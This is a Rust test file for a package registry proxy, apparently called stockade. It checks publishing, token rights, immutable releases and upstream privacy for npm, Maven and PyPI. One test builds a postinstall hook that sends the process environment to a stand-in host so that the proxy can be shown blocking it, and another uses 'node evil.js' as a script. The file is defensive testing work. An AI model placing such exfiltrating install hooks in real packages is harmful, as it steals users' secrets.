//! Packages that are published here: who may, what becomes of it, and that nobody outside is told of a name.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use stockade_ecosystem::Stated;
use stockade_ecosystem::maven::MAVEN;
use stockade_ecosystem::pypi::PYPI;
use stockade_engine::access::TokenRequest;
use stockade_model::Secret;
use stockade_testkit::{Distribution, FakeRegistry, MavenRegistry, NOW, Package, PythonRegistry};

use crate::maven::sha1;
use crate::world::{Answer, Setup, World, YOUNG, left_demo};

const PATH: &str = "/npm/@acme%2fleft";
const FILE: &str = "/npm/@acme/left/-/left-1.0.0.tgz";

fn hosting(registry: FakeRegistry) -> World {
    let claims = vec![("pkg:npm/@acme/*".to_owned(), Stated::HOSTED.to_owned())];
    World::with(registry, Setup { claims, ..Setup::default() })
}

pub(crate) fn token(world: &World, chance: u8, rights: &[&str]) -> Secret {
    let rights = rights.iter().map(|right| right.parse().unwrap()).collect();
    let expires = NOW + jiff::SignedDuration::from_hours(48);
    let request = TokenRequest { name: "alice".to_owned(), rights, expires };
    world.runtime.block_on(world.engine.create_token([chance; 32], request)).unwrap().0
}

fn publisher(world: &World) -> Secret {
    token(world, 1, &["publish:pkg:npm/@acme/*"])
}

/// What npm sends to publish a release with this script.
fn publication(version: &str, script: Option<&str>) -> String {
    let package = Package::new("@acme/left");
    let release = package.release(version);
    let release = script.map_or_else(|| release.clone(), |script| release.clone().script("postinstall", script));
    let tarball = release.tarball();
    let name = format!("@acme/left-{version}.tgz");
    json!({
        "name": "@acme/left",
        "dist-tags": { "latest": version },
        "versions": { version: { "name": "@acme/left", "version": version, "dist": {} } },
        "_attachments": { name: { "data": STANDARD.encode(tarball) } },
    })
    .to_string()
}

pub(crate) fn send(world: &World, method: &str, path: &str, token: Option<&Secret>, body: &str) -> Answer {
    let header = token.map(|token| format!("authorization: Bearer {}", token.reveal()));
    let headers: Vec<&str> = header.iter().map(String::as_str).collect();
    world.ask(method, path, &headers, body.as_bytes())
}

fn error(answer: &Answer) -> String {
    answer.json()["error"].as_str().unwrap_or_default().to_owned()
}

/// Who tries to be mistaken for a company publishes its names elsewhere, and the record of that says "every version".
#[test]
fn a_record_about_a_public_package_does_not_mean_the_one_that_is_published_here() {
    let folder = tempfile::TempDir::with_prefix("stockade-osv-").unwrap();
    let package = json!({"ecosystem": "npm", "name": "@acme/left"});
    let every = json!([{"type": "SEMVER", "events": [{"introduced": "0"}]}]);
    let record =
        json!({"id": "MAL-2026-0001", "summary": "confuses", "affected": [{"package": package, "ranges": every}]});
    std::fs::write(folder.path().join("MAL-2026-0001.json"), record.to_string()).unwrap();
    let setup = |claimed: &str, to: &str| {
        let claims = vec![(claimed.to_owned(), to.to_owned())];
        Setup { claims, advisories: vec![folder.path().to_owned()], ..Setup::default() }
    };
    let world = World::with(FakeRegistry::start(), setup("pkg:npm/@acme/*", Stated::HOSTED));
    let answer = send(&world, "PUT", PATH, Some(&publisher(&world)), &publication("1.0.0", None));
    assert_eq!(answer.status, 201, "{}", answer.text());
    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
    let why = world.why("pkg:npm/@acme/left@1.0.0");
    let told = format!("{:?}", why.evidence);
    assert!(told.contains("about a package of this name in another registry: confuses"), "it is said: {told}");

    // Of another registry that the operator names likewise; of the registry for all other names it is meant.
    let ours = FakeRegistry::start();
    ours.publish(&Package::new("@acme/left").release("1.0.0"));
    let world = World::with(FakeRegistry::start(), setup("pkg:npm/@acme/*", &ours.url()));
    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
    let registry = FakeRegistry::start();
    registry.publish(&Package::new("@acme/left").release("1.0.0"));
    let url = registry.url();
    let world = World::with(registry, setup("pkg:npm/@acme/*", &url));
    assert_eq!(world.ask("GET", FILE, &[], b"").status, 403);
}

#[test]
fn a_release_is_published_listed_and_served_and_nobody_outside_hears_of_it() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    assert_eq!(world.get("/@acme%2fleft").status, 404);
    let answer = send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None));
    assert_eq!(answer.status, 201, "{}", answer.text());
    let listed = world.get("/@acme%2fleft").json();
    assert_eq!(listed["dist-tags"]["latest"], "1.0.0");
    assert_eq!(listed["versions"]["1.0.0"]["_npmUser"]["name"], "alice");
    assert_eq!(listed["versions"]["1.0.0"]["dist"]["tarball"], format!("{}{FILE}", world.root()));
    let file = world.ask("GET", FILE, &[], b"");
    assert_eq!((file.status, file.is_whole()), (200, true));
    // It is minutes old, and nobody waits for it.
    let why = world.why("pkg:npm/@acme/left@1.0.0");
    assert_eq!(why.sentence, "cleared by stockade: `@acme/left` 1.0.0");
    let audit = world.ask("POST", "/npm/-/npm/v1/security/advisories/bulk", &[], br#"{"@acme/left":["1.0.0"]}"#);
    assert_eq!((audit.status, audit.text().as_str()), (200, "{}"));
    assert_eq!(world.registry.requests().len(), 0);
    world.log_holds();
}

#[test]
fn what_is_published_stays_when_the_process_does_not() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    assert_eq!(send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None)).status, 201);
    let claims = vec![("pkg:npm/@acme/*".to_owned(), Stated::HOSTED.to_owned())];
    let world = world.restarted_with(Setup { claims, ..Setup::default() });
    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
    assert_eq!(send(&world, "GET", "/npm/-/whoami", Some(&alice), "").json()["username"], "alice");
}

#[test]
fn only_who_may_publishes() {
    let world = hosting(FakeRegistry::start());
    let refused = |token: Option<&Secret>, path: &str| {
        let answer = send(&world, "PUT", path, token, &publication("1.0.0", None));
        (answer.status, error(&answer))
    };
    let needs = "refused by stockade: this needs a token; `stockade token create` makes one";
    assert_eq!(refused(None, PATH), (401, needs.to_owned()));
    let unknown = "refused by stockade: the token that was shown is not known here";
    assert_eq!(refused(Some(&Secret::new("stockade_none")), PATH), (401, unknown.to_owned()));
    let reader = token(&world, 2, &["read", "approve"]);
    let no_right = "refused by stockade: no right of the token covers this";
    assert_eq!(refused(Some(&reader), PATH), (403, no_right.to_owned()));
    let other = token(&world, 3, &["publish:pkg:npm/@acme/right", "publish:pkg:npm/left"]);
    let (status, why) = refused(Some(&other), PATH);
    assert_eq!((status, why.contains("`alice` may not publish `@acme/left`")), (403, true), "{why}");
    let body = publication("1.0.0", None).replace("@acme/left", "left");
    let elsewhere = send(&world, "PUT", "/npm/left", Some(&token(&world, 4, &["admin"])), &body);
    assert_eq!(elsewhere.status, 400, "the tarball is of another package: {}", elsewhere.text());
    assert_eq!(world.get("/@acme%2fleft").status, 404);
}

#[test]
fn a_name_that_is_not_claimed_cannot_be_published() {
    let world = World::with(FakeRegistry::start(), Setup::default());
    let admin = token(&world, 1, &["admin"]);
    let answer = send(&world, "PUT", PATH, Some(&admin), &publication("1.0.0", None));
    let why = "refused by stockade: `@acme/left` is not published here: its name is not claimed as `hosted` in \
               `[upstream.npm.claims]`";
    assert_eq!((answer.status, error(&answer)), (403, why.to_owned()));
}

#[test]
fn a_release_never_changes() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let publish = |script| send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", script));
    assert_eq!(publish(None).status, 201);
    assert_eq!(publish(None).status, 201, "the same once more");
    let answer = publish(Some("node evil.js"));
    assert_eq!(answer.status, 409);
    assert!(error(&answer).contains("was published by `alice` at "), "{}", error(&answer));
    let revision = world.get("/@acme%2fleft?write=true").json()["_rev"].as_str().unwrap().to_owned();
    let gone = send(&world, "DELETE", &format!("{PATH}/-rev/{revision}"), Some(&alice), "");
    assert_eq!(gone.status, 200, "{}", gone.text());
    assert_eq!((world.get("/@acme%2fleft").status, world.ask("GET", FILE, &[], b"").status), (404, 404));
    assert_eq!(publish(Some("node evil.js")).status, 409, "not in the place of what was taken off either");
    assert_eq!(publish(None).status, 409);
    world.log_holds();
}

#[test]
fn a_release_of_our_own_is_inspected_too() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let send = |version, script| send(&world, "PUT", PATH, Some(&alice), &publication(version, script)).status;
    assert_eq!(send("1.0.0", None), 201);
    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
    let hook = "node -e \"require('https').request('https://x.invalid/').end(JSON.stringify(process.env))\"";
    assert_eq!(send("1.0.1", Some(hook)), 201);
    let file = world.ask("GET", "/npm/@acme/left/-/left-1.0.1.tgz", &[], b"");
    assert_eq!(file.status, 403, "{}", file.text());
    assert!(file.phrase.contains("`@acme/left` 1.0.1"), "{}", file.phrase);
}

#[test]
fn a_digest_that_does_not_fit_is_refused() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let body =
        publication("1.0.0", None).replace(r#""dist":{}"#, &format!(r#""dist":{{"shasum":"{}"}}"#, "0".repeat(40)));
    let answer = send(&world, "PUT", PATH, Some(&alice), &body);
    assert_eq!(answer.status, 400);
    assert!(error(&answer).ends_with("does not have the digest that came with it; send it again"));
    assert_eq!(world.get("/@acme%2fleft").status, 404);
}

#[test]
fn a_state_that_is_out_of_date_is_refused() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    for version in ["1.0.0", "1.0.1"] {
        assert_eq!(send(&world, "PUT", PATH, Some(&alice), &publication(version, None)).status, 201);
    }
    let mut document = world.get("/@acme%2fleft?write=true").json();
    document["versions"]["1.0.0"]["deprecated"] = json!("use 1.0.1");
    let write = |document: &Value| send(&world, "PUT", PATH, Some(&alice), &document.to_string()).status;
    assert_eq!((write(&document), write(&document)), (200, 409));
    assert_eq!(world.get("/@acme%2fleft").json()["versions"]["1.0.0"]["deprecated"], "use 1.0.1");
    let mut newest = world.get("/@acme%2fleft?write=true").json();
    newest["versions"]["9.9.9"] = json!({});
    assert_eq!(write(&newest), 404);
}

#[test]
fn a_token_ends() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let who = |token: &Secret| send(&world, "GET", "/npm/-/whoami", Some(token), "");
    assert_eq!(who(&alice).status, 200);
    let spare = token(&world, 2, &["read"]);
    let revoke = send(&world, "DELETE", &format!("/npm/-/user/token/{}", spare.reveal()), Some(&alice), "");
    assert_eq!((revoke.status, who(&spare).status), (200, 401));
    assert!(error(&who(&spare)).contains("was revoked at "));
    world.pass(49);
    assert!(error(&who(&alice)).contains("expired at "));
    let publish = send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None));
    assert_eq!(publish.status, 401);
    world.log_holds();
}

#[test]
fn a_token_ends_nobody_elses() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let expires = NOW + jiff::SignedDuration::from_hours(48);
    let request = TokenRequest { name: "bob".to_owned(), rights: vec!["admin".parse().unwrap()], expires };
    let (bob, known) = world.runtime.block_on(world.engine.create_token([9; 32], request)).unwrap();
    for token in [bob.reveal(), known.id.as_str()] {
        let path = format!("/npm/-/npm/v1/tokens/token/{token}");
        assert_eq!(send(&world, "DELETE", &path, Some(&alice), "").status, 404);
    }
    assert_eq!(send(&world, "GET", "/npm/-/npm/v1/tokens", Some(&bob), "").json()["objects"][0]["key"], known.id);
}

#[test]
fn a_password_is_a_token() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let log_in = |password: &str| {
        let body = json!({ "name": "whoever", "password": password }).to_string();
        send(&world, "PUT", "/npm/-/user/org.couchdb.user:whoever", None, &body)
    };
    assert_eq!(log_in(alice.reveal()).json()["token"], alice.reveal());
    for wrong in ["hunter2", "stockade_", &alice.reveal()[1..]] {
        assert_eq!(log_in(wrong).status, 401, "{wrong}");
    }
    let basic = format!("authorization: Basic {}", STANDARD.encode(format!("__token__:{}", alice.reveal())));
    assert_eq!(world.ask("GET", "/npm/-/whoami", &[&basic], b"").json()["username"], "alice");
}

#[test]
fn a_body_that_is_too_long_is_not_read() {
    let world = hosting(FakeRegistry::start());
    let alice = publisher(&world);
    let header = format!("authorization: Bearer {}\r\ncontent-length: 300000000", alice.reveal());
    let answer = world.ask("PUT", PATH, &[&header], b"");
    assert!([400, 413].contains(&answer.status), "{}", answer.status);
}

#[test]
fn a_decision_wants_a_token_for_it() {
    let world = World::new();
    world.registry.publish_all(&left_demo());
    let body = |verdict: &str, expires: &str| {
        let purl = "pkg:npm/left-demo@1.1.0";
        json!({ "purl": purl, "verdict": verdict, "reason": "read it", "expires": expires }).to_string()
    };
    let decide = |token: Option<&Secret>, body: &str| send(&world, "POST", "/api/v1/decisions", token, body);
    let until = "2026-06-20T00:00:00Z";
    let publisher = token(&world, 1, &["publish:pkg:npm/**", "read"]);
    assert_eq!(decide(None, &body("allow", until)).status, 401);
    assert_eq!(decide(Some(&publisher), &body("allow", until)).status, 401);
    assert_eq!(world.get(YOUNG).status, 403);
    let approver = token(&world, 2, &["approve"]);
    for wrong in [body("allow", "2020-01-01T00:00:00Z"), body("hold", until), body("maybe", until), "{".to_owned()] {
        assert_eq!(decide(Some(&approver), &wrong).status, 400, "{wrong}");
    }
    let answer = decide(Some(&approver), &body("allow", until));
    assert_eq!((answer.status, &answer.json()[0]["by"]), (201, &json!("alice")), "{}", answer.text());
    assert_eq!(world.get(YOUNG).status, 200);
}

#[test]
fn a_sighting_wants_a_token_for_it_and_what_it_can_be_compared_with() {
    let world = World::new();
    world.registry.publish_all(&left_demo());
    let sighting = |purl: &str, deed: serde_json::Value| json!([{ "purl": purl, "deed": deed }]).to_string();
    let (purl, host) = ("pkg:npm/left-demo@1.0.9", json!({ "connect": "192.0.2.1:443" }));
    let tell = |token: Option<&Secret>, body: &str| send(&world, "POST", "/api/v1/sightings", token, body);
    for rights in [&[][..], &["read"], &["approve"], &["publish:pkg:npm/**"]] {
        let token = (!rights.is_empty()).then(|| token(&world, 1 + u8::try_from(rights[0].len()).unwrap(), rights));
        assert_eq!(tell(token.as_ref(), &sighting(purl, host.clone())).status, 401, "{rights:?}");
    }
    let reporter = token(&world, 99, &["report"]);
    let long = "x".repeat(257);
    for wrong in [
        "{".to_owned(),
        sighting("pkg:npm/left-demo", host.clone()),
        sighting("pkg:nothing/left-demo@1.0.9", host.clone()),
        sighting(purl, json!({ "connect": "" })),
        sighting(purl, json!({ "connect": "a\nb" })),
        sighting(purl, json!({ "run": long })),
        sighting(purl, json!({ "think": "x" })),
        serde_json::to_string(&vec![json!({ "purl": purl, "deed": host }); 101]).unwrap(),
    ] {
        assert_eq!(tell(Some(&reporter), &wrong).status, 400, "{wrong}");
    }
    // Nobody has got it here, so nothing is known of it that this could differ from.
    let answer = tell(Some(&reporter), &sighting(purl, host.clone()));
    assert_eq!((answer.status, answer.json()), (200, json!({ "held": [] })), "{}", answer.text());
}

/// A world that hosts names of another ecosystem, whose registry is elsewhere and hears of nothing.
fn hosting_of(ecosystem: &'static stockade_ecosystem::Ecosystem, url: String, names: &str) -> World {
    let others = vec![(ecosystem.id.clone(), url)];
    let hosted = vec![(ecosystem.id.clone(), names.to_owned())];
    World::with(FakeRegistry::start(), Setup { others, hosted, ..Setup::default() })
}

#[test]
fn maven_deploys_files_and_is_given_metadata_made_of_them() {
    let upstream = MavenRegistry::start();
    let world = hosting_of(&MAVEN, upstream.url(), "pkg:maven/com.acme/*");
    let alice = token(&world, 1, &["publish:pkg:maven/com.acme/*"]);
    let put = |path: &str, body: &str| send(&world, "PUT", &format!("/maven/com/acme/left/{path}"), Some(&alice), body);
    let get = |path: &str| world.ask("GET", &format!("/maven/com/acme/left/{path}"), &[], b"");
    let pom = |version: &str| {
        format!(
            "<project><groupId>com.acme</groupId><artifactId>left</artifactId><version>{version}</version></project>"
        )
    };
    assert_eq!(get("maven-metadata.xml").status, 404);
    assert_eq!(get("1.0/left-1.0.pom").status, 404);
    assert_eq!(put("1.0/left-1.0.pom", &pom("1.0")).status, 201);
    let sum = sha1(pom("1.0").as_bytes());
    assert_eq!(put("1.0/left-1.0.pom.sha1", &sum).status, 201);
    assert_eq!(put("1.0/left-1.0.pom.sha1", &"0".repeat(40)).status, 400, "the checksum is another file's");
    assert_eq!(put("1.0/left-1.0.pom", &pom("1.0").replace("left<", "left <")).status, 409, "a release never changes");
    assert_eq!(put("maven-metadata.xml", "<metadata/>").status, 201);
    let metadata = get("maven-metadata.xml");
    assert!(metadata.text().contains("<version>1.0</version>"), "{}", metadata.text());
    assert_eq!(get("maven-metadata.xml.sha1").text(), sha1(&metadata.body));
    assert_eq!((get("1.0/left-1.0.pom").text(), get("1.0/left-1.0.pom.sha1").text()), (pom("1.0"), sum));
    assert_eq!(get("1.0/left-1.0.jar").status, 404);
    assert_eq!(get("1.0/left-1.0.module").status, 404);

    let build = |number: u32| format!("2.0-SNAPSHOT/left-2.0-20260601.12000{number}-{number}.pom");
    for number in [1, 2] {
        assert_eq!(put(&build(number), &pom("2.0-SNAPSHOT")).status, 201);
    }
    let snapshot = get("2.0-SNAPSHOT/maven-metadata.xml");
    assert!(snapshot.text().contains("<buildNumber>2</buildNumber>"), "{}", snapshot.text());
    assert_eq!(get(&build(1)).status, 200);
    assert_eq!(put("2.0-SNAPSHOT/left-2.0-SNAPSHOT.pom", &pom("2.0-SNAPSHOT")).status, 400);
    assert_eq!(upstream.count("*acme*"), 0, "no internal name is told");
    world.log_holds();
}

#[test]
fn python_packages_are_uploaded_and_listed() {
    let upstream = PythonRegistry::start();
    let world = hosting_of(&PYPI, upstream.index(), "pkg:pypi/acme-*");
    let alice = token(&world, 1, &["publish:pkg:pypi/acme-*"]);
    let upload = |distribution: &Distribution, version: &str| {
        let mut body = Vec::new();
        for (name, value) in
            [(":action", "file_upload"), ("protocol_version", "1"), ("name", "acme.left"), ("version", version)]
        {
            let part = format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
            body.extend_from_slice(part.as_bytes());
        }
        let name = distribution.file_name();
        let head = format!("--b\r\nContent-Disposition: form-data; name=\"content\"; filename=\"{name}\"\r\n\r\n");
        body.extend_from_slice(head.as_bytes());
        body.extend_from_slice(&distribution.packed());
        body.extend_from_slice(b"\r\n--b--\r\n");
        let basic = STANDARD.encode(format!("__token__:{}", alice.reveal()));
        let headers =
            [format!("authorization: Basic {basic}"), "content-type: multipart/form-data; boundary=b".to_owned()];
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        world.ask("POST", "/pypi/legacy/", &headers, &body)
    };
    let wheel = Distribution::wheel("acme-left", "1.0").requires_python(">=3.8");
    assert_eq!(upload(&wheel, "1.0").status, 200, "{}", upload(&wheel, "1.0").text());
    assert_eq!(upload(&Distribution::sdist("acme-left", "1.0"), "1.0.0").status, 200);
    let other = wheel.clone().file("acme_left/more.py", "x = 1");
    let taken = upload(&other, "1.0");
    assert_eq!(taken.status, 409);
    assert!(taken.phrase.contains("was published by `alice`"), "{}", taken.phrase);
    let accept = "accept: application/vnd.pypi.simple.v1+json";
    let page = world.ask("GET", "/pypi/simple/acme-left/", &[accept], b"").json();
    let files = page["files"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!(page["versions"], json!(["1.0"]));
    let address = files[0]["url"].as_str().unwrap();
    let path = address.strip_prefix(&world.root()).unwrap();
    assert_eq!(world.ask("GET", path, &[], b"").body, wheel.packed());
    assert_eq!(world.ask("GET", "/pypi/simple/acme_right/", &[accept], b"").status, 404);
    assert_eq!(upstream.requests().len(), 0, "no internal name is told");
}
